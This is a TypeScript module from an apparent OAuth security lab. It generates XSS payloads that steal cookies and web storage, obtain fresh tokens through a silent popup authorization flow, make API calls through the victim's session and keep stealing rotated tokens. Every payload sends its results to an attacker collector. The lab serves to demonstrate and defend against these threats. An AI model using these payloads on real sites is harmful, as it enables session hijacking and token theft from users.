import { isXssPayloadName, type LabTopology, type XssPayloadName } from '@lab/shared';

/**
 * The XSS payloads: JavaScript that the SPA's injected-script hook (a stand-in for an XSS bug)
 * runs inside the victim's page, with the page's privileges. Each one reports what it got to the
 * attacker's collector and leaves `window.__labXss` for the scenario to read.
 */
export type PayloadName = XssPayloadName;
export const isPayloadName = isXssPayloadName;

export function renderPayload(name: PayloadName, topology: LabTopology): string {
  const lab = {
    attacker: topology.attacker.url,
    spa: topology.spa.url,
    authserver: topology.authserver.url,
    api: topology['resource-api'].url,
  };
  return `// Injected by the lab's XSS hook: the attacker's "${name}" payload, running in the victim's page.
(() => {
const LAB = ${JSON.stringify(lab)};
const state = (window.__labXss = { name: ${JSON.stringify(name)}, status: 'running', result: undefined });
function report(label, data) {
  // no-cors: the attacker does not need to read the answer, only to deliver the loot.
  return fetch(LAB.attacker + '/collect/' + label, { method: 'POST', mode: 'no-cors', keepalive: true, headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify(data) })
    .then(() => 'sent', (error) => 'blocked: ' + error.message);
}
function finish(result) { state.result = result; state.status = 'done'; }
function readable() {
  return { cookie: document.cookie, localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage } };
}
${PAYLOAD_BODIES[name]}
})();
`;
}

const PAYLOAD_BODIES: Readonly<Record<PayloadName, string>> = {
  // Threat: XSS reads tokens from the browser (browser-based apps draft, "Single-Execution Token Theft").
  'steal-storage': `
const found = readable();
report('steal-storage', found).then((delivery) => finish({ found, delivery }));
`,
  // Threat: XSS runs its own authorization request and redeems the code ("Acquisition of New Tokens").
  // A popup, not a hidden iframe: browsers no longer send the authorization server's cookies to a
  // third-party frame, so prompt=none in an iframe would fail for everyone.
  'silent-authorize': `
(async () => {
  // The popup lands on the app's redirect URI, where the hook injects this script again: not there.
  if (window.opener && window.name === 'xss') return finish({ skipped: 'running in its own popup' });
  const publicClient = localStorage.getItem('lab.mode') === 'public-client';
  const clientId = publicClient ? 'spa-public' : 'bff';
  const redirectUri = LAB.spa + (publicClient ? '/spa-callback' : '/bff/callback');
  const bytes = crypto.getRandomValues(new Uint8Array(32));
  const b64url = (buffer) => btoa(String.fromCharCode(...new Uint8Array(buffer))).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
  const verifier = b64url(bytes);
  const challenge = b64url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier)));
  const authorize = new URL(LAB.authserver + '/auth');
  for (const [key, value] of Object.entries({ client_id: clientId, redirect_uri: redirectUri, response_type: 'code', scope: 'openid notes:read notes:write', resource: LAB.api, code_challenge: challenge, code_challenge_method: 'S256', state: 'xss', prompt: 'none' })) authorize.searchParams.set(key, value);
  const popup = window.open(authorize.toString(), 'xss', 'width=1,height=1');
  let code;
  // Read the code from the popup's address bar as soon as it is back on the app's origin, before
  // the app's own script there can clean the URL up (the public client's callback page does).
  for (let i = 0; i < 200 && !code; i++) {
    await new Promise((resolve) => setTimeout(resolve, 50));
    try { code = new URL(popup.location.href).searchParams.get('code') ?? undefined; } catch { /* still at the authorization server */ }
  }
  popup?.close();
  if (!code) return finish({ code: null });
  const response = await fetch(LAB.authserver + '/token', {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: redirectUri, client_id: clientId, code_verifier: verifier, resource: LAB.api }),
  }).then(async (answer) => ({ status: answer.status, body: await answer.json() }), (error) => ({ status: 0, body: { error: String(error) } }));
  // The code and its verifier go along: the attacker can also try to redeem them from her own machine.
  const delivery = await report('silent-authorize', { clientId, redirectUri, code, codeVerifier: verifier, token: response });
  finish({ clientId, codeObtained: true, token: response, delivery });
})();
`,
  // Threat: XSS uses the victim's session through the open page ("Client Hijacking"): works with a BFF too.
  'proxy-calls': `
(async () => {
  const notes = await fetch('/api/notes', { headers: { 'X-CSRF': '1' } }).then(async (r) => ({ status: r.status, body: await r.json() }));
  const written = await fetch('/api/notes', { method: 'POST', headers: { 'X-CSRF': '1', 'Content-Type': 'application/json' }, body: JSON.stringify({ text: 'Written by an XSS through the open page' }) })
    .then(async (r) => ({ status: r.status, body: await r.json() }));
  const delivery = await report('proxy-calls', { notes, written });
  finish({ notes, written, delivery });
})();
`,
  // Threat: persistent token theft: keep sending the newest tokens, so rotation never sees a reuse.
  'persistent-theft': `
(async () => {
  let last = '';
  let sent = 0;
  for (let i = 0; i < 120; i++) {
    const found = readable();
    const snapshot = JSON.stringify(found.localStorage);
    if (snapshot !== last) {
      last = snapshot;
      sent++;
      await report('persistent-theft', found);
      state.result = { sent };
    }
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
  finish({ sent });
})();
`,
};
